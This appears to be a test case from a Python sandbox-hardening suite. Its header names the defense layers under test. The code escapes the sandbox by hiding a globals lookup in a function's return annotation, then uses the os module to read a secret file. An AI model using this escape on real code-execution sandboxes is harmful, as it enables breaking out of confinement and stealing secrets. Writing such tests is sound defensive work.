# class: object graph walk
# technique: a forbidden attribute in the annotation of what a function returns
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import typing
box = []
def annotated() -> box.append(quit.__init__.__globals__):
    pass
if not box:
    typing.get_type_hints(annotated)
g = box[0]
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
